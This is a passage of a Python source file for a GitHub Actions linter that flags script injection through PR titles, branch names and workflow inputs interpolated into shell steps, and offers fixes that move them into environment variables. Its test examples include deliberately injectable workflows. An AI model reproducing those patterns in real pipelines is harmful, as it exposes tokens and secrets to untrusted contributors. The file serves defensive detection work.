        with: {registry: ghcr.io, username: '${{ github.actor }}', password: '${{ secrets.GITHUB_TOKEN }}'}
      - name: build  # of the base
        env:
          HEAD_REF: ${{ github.head_ref }}
        run: |
          echo "Preview of $HEAD_REF"
          docker build --label "branch=$HEAD_REF" -t ghcr.io/acme/web:preview .
          docker push ghcr.io/acme/web:preview
""",
        ),
        Example(
            title="title and branch of a pull request, by a variable of the job, in quotes of all kinds",
            files="""\
-- .github/workflows/build.yml --
on: pull_request
permissions: {contents: read}
env:
  BRANCH: ${{ github.event.pull_request.head.ref }}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo '${{ github.event.pull_request.title }}' ${{ env.BRANCH }}_1 'costs $5 ${{ env.BRANCH }}'
          cat > notes.md <<EOF
          ${{ github.event.pull_request.title }}
          EOF
          docker build -t web .
        env:
          DOCKER_BUILDKIT: 1
""",
            at="${{ github.event.pull_request.title }}",
            fixed="""\
-- .github/workflows/build.yml --
on: pull_request
permissions: {contents: read}
env:
  BRANCH: ${{ github.event.pull_request.head.ref }}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "$PR_TITLE" "${BRANCH}_1" 'costs $5 '"$BRANCH"
          cat > notes.md <<EOF
          $PR_TITLE
          EOF
          docker build -t web .
        env:
          DOCKER_BUILDKIT: 1
          PR_TITLE: ${{ github.event.pull_request.title }}
""",
        ),
        Example(
            title="an input that is typed by hand, and a commit message",
            files="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs:
      webVersion: {description: to release, required: true}
permissions: {contents: read}
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t acme/web:${{ inputs.webVersion }} . && docker push acme/web:${{ inputs.webVersion }}
-- .github/workflows/notify.yml --
on: {push: {branches: [main]}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t web .
      - run: echo "built ${{ github.event.head_commit.message }}"
""",
            at=("${{ inputs.webVersion }}", "${{ github.event.head_commit.message }}"),
            fixed="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs:
      webVersion: {description: to release, required: true}
permissions: {contents: read}
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "acme/web:$INPUT_WEB_VERSION" . && docker push "acme/web:$INPUT_WEB_VERSION"
        env:
          INPUT_WEB_VERSION: ${{ inputs.webVersion }}
""",
        ),
        Example(
            title="an input of a called workflow, with what its caller passes",
            files="""\
-- .github/workflows/build.yml --
on:
  workflow_call:
    inputs: {tag: {type: string}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "web:${{ inputs.tag }}" .
-- .github/workflows/pr.yml --
on: pull_request
permissions: {contents: read}
jobs:
  build:
    uses: ./.github/workflows/build.yml
    with: {tag: 'pr-${{ github.head_ref }}'}
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/build.yml --
on:
  workflow_call:
    inputs: {tag: {type: string}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "web:$INPUT_TAG" .
        env:
          INPUT_TAG: ${{ inputs.tag }}
-- .github/workflows/pr.yml --
on: pull_request
permissions: {contents: read}
jobs:
  build:
    uses: ./.github/workflows/build.yml
    with: {tag: 'pr-${{ github.head_ref }}'}
""".partition("-- .github/workflows/pr.yml")[0],
        ),
        Example(
            title="code of another program: a variable in it would be no safer",
            files="""\
-- .github/workflows/build.yml --
on: pull_request
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          docker build -t web .
          bash -c "echo ${{ github.head_ref }}"
      - run: python3 -c "print('${{ github.head_ref }}')"
      - shell: pwsh
        run: echo "${{ github.head_ref }}"
""",
            at=("${{ github.head_ref }}", "${{ github.head_ref }}", "${{ github.head_ref }}"),
        ),
        Example(
            title="what `case` compares",
            files="""\
-- .github/workflows/build.yml --
on: pull_request
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          case "${{ github.head_ref }}" in
            hotfix/*) target=patched ;;
            *) target=production ;;
          esac
          docker build --target "$target" -t web .
          case ${{ github.head_ref }}-web in
            main-*) docker build --target web . ;;
          esac
          case "${{ github.head_ref }}
          $target" in
            *production) docker build --target web . ;;
          esac
          case "$(basename ${{ github.head_ref }})-${{ github.head_ref }}" in
            x-*) docker build --target web . ;;
          esac
""",
            at="${{ github.head_ref }}",
            fixed="""\
-- .github/workflows/build.yml --
on: pull_request
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: |
          case "$HEAD_REF" in
            hotfix/*) target=patched ;;
            *) target=production ;;
          esac
          docker build --target "$target" -t web .
          case "$HEAD_REF-web" in
            main-*) docker build --target web . ;;
          esac
          case "$HEAD_REF
          $target" in
            *production) docker build --target web . ;;
          esac
          case "$(basename "$HEAD_REF")-$HEAD_REF" in
            x-*) docker build --target web . ;;
          esac
        env:
          HEAD_REF: ${{ github.head_ref }}
""",
        ),
        Example(
            title="what others can't write, tests of it, variables, and what only looks like it",
            files="""\
-- .github/workflows/build.yml --
on:
  push: {branches: [main]}
  pull_request:
  workflow_dispatch:
    inputs:
      target: {type: choice, options: [dev, prod]}
      dry: {type: boolean}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: build
        run: |
          docker build -t web:${{ github.sha }} -t web:${{ github.run_id }} -t web:${{ github.ref_name }} .
          echo "${{ inputs.target }} ${{ inputs.dry }} ${{ github.event.pull_request.number }}"
          echo "${{ github.head_ref == 'main' }} ${{ contains(github.event.pull_request.title, 'x') }}"
          # of ${{ github.head_ref }}
          echo "$HEAD_REF"
        env:
          HEAD_REF: ${{ github.head_ref }}
      - run: cosign sign --yes "web@${{ steps.build.outputs.digest }}"
      - if: github.event_name == 'push'
        run: echo "${{ github.head_ref }}"
      - if: github.event.pull_request.head.repo.full_name == github.repository
        run: echo "${{ github.head_ref }}"
""",
        ),
        Example(
            title="a reusable workflow that nobody here calls, a comment whose author is checked, a job without images",
            files="""\
-- .github/workflows/reusable.yml --
on:
  workflow_call:
    inputs: {tag: {type: string}}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t "web:${{ inputs.tag }}" .
-- .github/workflows/comment.yml --
on: issue_comment
permissions: {contents: read}
jobs:
  build:
    if: github.event.comment.author_association == 'OWNER'
    runs-on: ubuntu-latest
    steps:
      - run: docker build -t web . && echo "${{ github.event.comment.body }}"
-- .github/workflows/greet.yml --
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
""",
        ),
        Example(
            title="in a job that signs an archive",
            files="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  sign:
    runs-on: ubuntu-latest
    steps:
      - run: cosign sign-blob --yes --key env://KEY web-${{ inputs.version }}.tar.gz
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  sign:
    runs-on: ubuntu-latest
    steps:
      - run: cosign sign-blob --yes --key env://KEY "web-$INPUT_VERSION.tar.gz"
        env:
          INPUT_VERSION: ${{ inputs.version }}
""",
        ),
        Example(
            title="between single quotes, for a variable that has the name already",
            files="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: |
          INPUT_VERSION='${{ inputs.version }}'
          docker build -t "web:$INPUT_VERSION" .
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - run: |
          INPUT_VERSION="$INPUT_VERSION_2"
          docker build -t "web:$INPUT_VERSION" .
        env:
          INPUT_VERSION_2: ${{ inputs.version }}
""",
        ),
        Example(
            title="another job reads it, too, and another output is made of it by a variable of a variable",
            files="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        run: |
          VERSION="${{ inputs.version }}"
          TAG="v${VERSION#v}"
          DAY=$(date -d "$VERSION" +%u)
          echo "tag=$TAG" >> "$GITHUB_OUTPUT"
          echo "day=$DAY" >> "$GITHUB_OUTPUT"
      - run: docker build -t web:${{ steps.name.outputs.tag }} --label day=${{ steps.name.outputs.day }} .
  notes:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Version ${{ inputs.version }}" > notes.md
""",
            at="${{ inputs.version }}",
            fixed="""\
-- .github/workflows/release.yml --
on:
  workflow_dispatch:
    inputs: {version: {type: string}}
permissions: {contents: read}
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - id: name
        env:
          INPUT_VERSION: ${{ inputs.version }}
        run: |
          VERSION="$INPUT_VERSION"
          TAG="v${VERSION#v}"
          DAY=$(date -d "$VERSION" +%u)
          echo "tag=$TAG" >> "$GITHUB_OUTPUT"
          echo "day=$DAY" >> "$GITHUB_OUTPUT"
      - run: docker build -t "web:$OUTPUT_TAG" --label day=${{ steps.name.outputs.day }} .
        env:
          OUTPUT_TAG: ${{ steps.name.outputs.tag }}
  notes:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Version $INPUT_VERSION" > notes.md
        env:
          INPUT_VERSION: ${{ inputs.version }}
""",
        ),
        Example(
            title="an earlier job stops at what is no version",
            files="""\
-- .github/workflows/hotfix.yml --
on:
  workflow_dispatch:
    inputs: {tag: {type: string}}
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - env: {TAG: '${{ inputs.tag }}'}
        run: |
          if [[ ! "$TAG" =~ ^v[0-9]+\\.[0-9]+-hotfix[a-zA-Z0-9._-]*$ ]]; then
            exit 1
          fi
  image:
    needs: check
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t ghcr.io/acme/web:${{ inputs.tag }} .
""",
        ),
        Example(
            title="the pattern lets anything through behind the version",
            files="""\
-- .github/workflows/hotfix.yml --
on:
  workflow_dispatch:
    inputs: {tag: {type: string}}
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - env: {TAG: '${{ inputs.tag }}'}
        run: |
          if [[ ! "$TAG" =~ ^v[0-9]+.*$ ]]; then
            exit 1
          fi
  image:
    needs: check
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t ghcr.io/acme/web:${{ inputs.tag }} .
""",
            at="${{ inputs.tag }}",
            fixed="""\
-- .github/workflows/hotfix.yml --
on:
  workflow_dispatch:
    inputs: {tag: {type: string}}
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - env: {TAG: '${{ inputs.tag }}'}
        run: |
          if [[ ! "$TAG" =~ ^v[0-9]+.*$ ]]; then
            exit 1
          fi
  image:
    needs: check
    runs-on: ubuntu-latest
    steps:
      - run: docker build --push -t "ghcr.io/acme/web:$INPUT_TAG" .
        env:
          INPUT_TAG: ${{ inputs.tag }}
""",
        ),
        Example(
            title="steps that run where no cache was found, and behind another condition, read it, too",
            files="""\
-- .github/workflows/scan.yml --
on: {workflow_dispatch: {inputs: {app: {type: string}}}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: saved
        uses: actions/cache@v5
        with: {path: web.tar, key: web}
      - if: steps.saved.outputs.cache-hit != 'true'
        run: make APP=${{ inputs.app }} image
      - if: steps.member.outputs.found == 'yes'
        run: cp web.tar "${{ inputs.app }}.tar"
  scan:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: docker build "web/${{ inputs.app }}"
""",
            at="${{ inputs.app }}",
            fixed="""\
-- .github/workflows/scan.yml --
on: {workflow_dispatch: {inputs: {app: {type: string}}}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - id: saved
        uses: actions/cache@v5
        with: {path: web.tar, key: web}
      - if: steps.saved.outputs.cache-hit != 'true'
        env:
          INPUT_APP: ${{ inputs.app }}
        run: make "APP=$INPUT_APP" image
      - if: steps.member.outputs.found == 'yes'
        env:
          INPUT_APP: ${{ inputs.app }}
        run: cp web.tar "$INPUT_APP.tar"
  scan:
    needs: build
    runs-on: ubuntu-latest
    steps:
      - run: docker build "web/$INPUT_APP"
        env:
          INPUT_APP: ${{ inputs.app }}
""",
        ),
        Example(
            title="a condition that may be about who starts it, and nothing reads it elsewhere",
            files="""\
-- .github/workflows/build.yml --
on: {workflow_dispatch: {inputs: {app: {type: string}}}}
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - if: steps.member.outputs.found == 'yes'
        run: docker build "${{ inputs.app }}"
""",
        ),
    ),
)
_SEVERITIES = {
    Reach.ANYONE: Severity.ERROR,
    Reach.LABELLED: Severity.WARNING,
    Reach.MERGED: Severity.WARNING,
    Reach.PULL_REQUEST: Severity.WARNING,
    Reach.STARTER: Severity.NOTE,
}
_CONSEQUENCES = {
    Reach.ANYONE: (
        "The shell runs what stands in it, {example} for one: anyone on GitHub can start that, with the token and the "
        "secrets of this job."
    ),
    Reach.LABELLED: (
        "The shell runs what stands in it, {example} for one: whoever opens a pull request has the token and the secrets "
        "of this job once somebody gives it the label that the job waits for."
    ),
    Reach.MERGED: (
        "The shell runs what stands in it, {example} for one: whose commit is merged runs commands with the token "
        "and the secrets of this job."
    ),
    Reach.PULL_REQUEST: (
        "The shell runs what stands in it, {example} for one. Nothing of that shows in the diff that a reviewer "
        "approves."
    ),
    Reach.STARTER: (
        "The shell runs what stands in it, {example} for one: who may start the workflow has the token and the secrets "
        "of this job, without a commit that anybody reviews."
    ),
}
_NAMES = {
    "github.head_ref": "HEAD_REF",
    "github.event.pull_request.head.ref": "HEAD_REF",
    "github.event.pull_request.head.label": "HEAD_LABEL",
    "github.event.pull_request.title": "PR_TITLE",
    "github.event.pull_request.body": "PR_BODY",
    "github.event.workflow_run.head_branch": "HEAD_BRANCH",
    "github.event.head_commit.message": "COMMIT_MESSAGE",
}


_OF_RELEASES = {
    "github.event.release.body": "RELEASE_BODY",
    "github.event.release.name": "RELEASE_NAME",
    "github.event.release.tag_name": "RELEASE_TAG",
}
"""What those write who may push, too: it is mended along, and not told for itself."""
_SHOWN = 5
"""Lines that a question names."""
_MAKES = frozenset(("make", "gmake"))
_OF_MAKE = "Do the recipes quote what `make` is given, for the shells that they start?"


def run(repo: Repository) -> Iterator[Finding]:
    found = dict(repo.each(repo.workflows, _foreign_in_workflow))
    open_to_others = {
        step: mine
        for step, texts in found.items()
        if step.run is not None and step.job is not None and repo.vouches(step.job)
        if (mine := tuple(one for one in texts if not one.is_guarded))
    }
    covered = frozenset((step, one.found.span) for step, texts in open_to_others.items() for one in texts)
    others: dict[str, dict[Step, tuple[Foreign, ...]]] = {}
    for step, texts in found.items():
        if step not in open_to_others:
            others.setdefault(step.text.path, {})[step] = texts
    told: dict[str, set[str]] = {}
    for step, texts in open_to_others.items():
        before = told.setdefault(step.text.path, set())
        new = {one.path for one in texts} - before
        before |= new
        elsewhere = {
            other: mine
            for other, those in (others.get(step.text.path, {}) if new else {}).items()
            if (mine := tuple(one for one in those if one.path in new))
        }
        yield _finding(repo, step, texts, elsewhere, covered)


def _foreign_in_workflow(repo: Repository, workflow: Workflow) -> Iterator[tuple[Step, tuple[Foreign, ...]]]:
    for step in workflow.steps:
        texts = _foreign_in(repo, step)
        if texts:
            yield step, texts


def _foreign_in(repo: Repository, step: Step) -> tuple[Foreign, ...]:
    """What others write in a step's script, and nothing has checked."""
    found = foreign_texts(step, repo.calls_around(step.job)) if step.job else ()
    if not found:
        return ()
    comments = parse_script(step.run.value).comments if step.run is not None and step.is_shell_script else ()
    return tuple(
        one
        for one in found
        if not any(comment.covers(one.found.span) for comment in comments)
        and not is_validated(one.path, step)
    )


def _finding(
    repo: Repository,
    step: Step,
    found: tuple[Foreign, ...],
    elsewhere: Mapping[Step, tuple[Foreign, ...]],
    covered: frozenset[tuple[Step, Span]],
) -> Finding:
    """Of a step in a job that makes images or vouches; `elsewhere` is what other steps of the workflow read
    of the same.

    Of called workflows what findings of their own cover is left out.
    """
    worst = min(found, key=lambda one: tuple(Reach).index(one.reach))
    paths = tuple(dict.fromkeys(one.path for one in found))
    more = f" and {len(paths) - 1} more" if len(paths) > 1 else ""
    verb = "become" if more else "becomes"
    texts = {step: found, **elsewhere}
    read = {one: {it.found.span: _name(it.path) for it in those} for one, those in texts.items()}
    places = [(one, _place(one, those[0], "reads it, too")) for one, those in elsewhere.items()]
    for one, those in texts.items():
        for it in _taken_over(repo, one, those):
            if it.step.text is step.text or (it.step, it.span) not in covered:
                read.setdefault(it.step, {}).setdefault(it.span, it.variable)
                places.append((it.step, it.location))
    for one in texts:
        of_release = {span: _OF_RELEASES[path] for span, path in contexts_in(one, _OF_RELEASES).items()}
        together = read[one] | of_release
        read[one] = together if moved_to_environment(one, together) else read[one]
    places.sort(key=lambda one: (one[1].path != step.text.path, one[1].path, one[1].span.start))
    moved = {one: moved_to_environment(one, names) for one, names in read.items()}
    edits = moved[step]
    left = [_filled_with(one, it) for one, spans in read.items() if not moved[one] for it in spans]
    scripts = [
        _filled_with(one, it) for one, spans in read.items() if moved[one] and not one.run for it in spans
    ]
    asked = [
        *((_still_filled_in(left, step.text.path),) if left else ()),
        *((_of_javascript(scripts, step.text.path),) if scripts else ()),
        *_of_make(repo, read),
    ]
    return Finding(
        message=f"{code(worst.path)}{more} {verb} a part of the script, for {code(worst.event)}.",
        consequence=_CONSEQUENCES[worst.reach].format(example=code(_example(step, worst))),
        location=_place(step, worst),
        related=(*_passed(worst.passed), *_once_a_line(place for _, place in places)),
        fixes=offer(
            "hand it over in a variable",
            Applicability.UNSAFE if asked else Applicability.SAFE,
            *(edit for one in moved.values() for edit in one or ()),
            caution=" ".join(asked),
        )
        if edits
        else (),
        withheld="" if edits else _withheld(step, found),
        severity=_SEVERITIES[worst.reach],
    )


def _withheld(step: Step, found: tuple[Foreign, ...]) -> str:
    """Why a script can't be handed its texts in variables, with the lines at fault."""
    stuck = [one for one in found if moved_to_environment(step, {one.found.span: _name(one.path)}) is None]
    where = _lines([_place(step, one).line for one in stuck or found])
    if stuck and all(may_be_several(step, one.found.span) for one in stuck):
        return f"it may be meant to come to several words at {where}, where a variable between quotes comes to one"
    return f"the script reads it at {where}, where a variable would be no safer, or not be read"


def _example(step: Step, one: Foreign) -> str:
    """What runs where a text stands: between single quotes only what ends these first."""
    return "'$(…)'" if is_in_single_quotes(step, one.found.span) else "$(…)"


def _place(step: Step, one: Foreign, note: str = "") -> Location:
    """Where a step's script is filled with a text."""
    return _filled_with(step, one.found.span, note)


def _filled_with(step: Step, span: Span, note: str = "") -> Location:
    """Where an expression of a step's script stands, which is given by its span there."""
    script = code_in(step)
    place = script.locate(span.start, span.end) if script is not None else None
    return Location(step.text, place or (script.span if script is not None else step.node.span), note)


def _once_a_line(places: Iterable[Location]) -> Iterator[Location]:
    """The first place on each line."""
    seen: set[tuple[str, int]] = set()
    for place in places:
        if (place.path, place.line) not in seen:
            seen.add((place.path, place.line))
            yield place


def _taken_over(repo: Repository, step: Step, found: tuple[Foreign, ...]) -> Iterator[HandedOn]:
    """Where it gets from there; in called workflows only where these do not check it."""
    written = code_in(step)
    script = written.value if written is not None else ""
    texts = [script[one.found.span.start : one.found.span.end] for one in found]
    starts = {start for one in found for start in one.starts}
    for one in handed_on(step, script, texts, starts, repo.calls_around(step.job)) if step.job else ():
        if one.step.text is step.text or not is_validated(one.path, one.step):
            yield one


def _of_make(repo: Repository, read: Mapping[Step, Mapping[Span, str]]) -> Iterator[str]:
    """What to ask where `make` is given one of the texts, which it fills into its recipes as it is."""
    given = [(step, span) for step, spans in read.items() for span in spans if _is_given_to_make(step, span)]
    filled = [tuple(_filled_in(repo, step, span)) for step, span in given]
    by_name: dict[str, list[int]] = {}
    for path, name, line in (one for those in filled for one in those):
        by_name.setdefault(f"{code(name)} of {code(path)}", []).append(line)
    if by_name:
        where = "; ".join(f"{name} at {_lines(lines)}" for name, lines in by_name.items())
        yield f"Is it safe that `make` puts what it is given into what it has a shell run: {where}?"
    if not all(filled):
        yield _OF_MAKE


def _filled_in(repo: Repository, step: Step, span: Span) -> Iterator[tuple[str, str, int]]:
    """Where scripts of `make` take what it is given as a variable: the Makefile, the variable and the line."""
    run = next((one for one in make_runs(step) if one.command.span.covers(span)), None)
    name = run.variable_of(span.start) if run else ""
    for line in script_lines(run, repo.texts(Kind.MAKEFILE), name) if run and name else ():
        yield line.path, name, line.line


def _is_given_to_make(step: Step, span: Span) -> bool:
    """Whether `make` gets one of the texts of a script."""
    script = parse_script(step.run.value) if step.run is not None and step.is_shell_script else None
    commands = script.commands if script else ()
    return any(one.program in _MAKES and one.span.covers(span) for one in commands)


def _still_filled_in(left: list[Location], path: str) -> str:
    """What to ask where other scripts read it in a way that no edit of ours changes."""
    return f"Is it safe that it is still filled in at {_where(left, path)}, which this leaves as it is?"


def _of_javascript(places: list[Location], path: str) -> str:
    """What to ask where scripts of JavaScript read it from variables: what was escaped in a string is not in these."""
    return (
        f"Does the JavaScript at {_where(places, path)} do the same with the value of a variable, in which quotes and "
        "backslashes have no meaning?"
    )


def _where(places: list[Location], path: str) -> str:
    """Lines, with the files that are not the one of a path."""
    by_path: dict[str, list[int]] = {}
    for one in places:
        by_path.setdefault(f" of {code(one.path)}" if one.path != path else "", []).append(one.line)
    return " and ".join(f"{_lines(lines)}{of}" for of, lines in by_path.items())


def _lines(numbers: list[int]) -> str:
    """Lines by their numbers, of many the first ones and how many more there are."""
    shown = [str(one) for one in sorted(set(numbers))]
    if len(shown) > _SHOWN:
        shown[_SHOWN - 1 :] = [f"{len(shown) - _SHOWN + 1} more"]
    *most, last = shown
    return f"lines {', '.join(most)} and {last}" if most else f"line {last}"


def _passed(place: Location | None) -> tuple[Location, ...]:
    return (Location(place.text, place.span, f"passes {code(place.fragment)}"),) if place else ()


def _name(path: str) -> str:
    """The name of the variable: `INPUT_` before inputs, which no program takes for a setting of its own."""
    last = re.sub(r"\W|(?<=[a-z0-9])(?=[A-Z])", "_", path.rpartition(".")[2]).upper()
    if ".inputs." in f".{path}":
        return f"INPUT_{last}"
    parts = path.split(".")
    return _NAMES.get(path.lower()) or "_".join(parts[-2:]).upper().replace("*", "ALL").replace("-", "_")
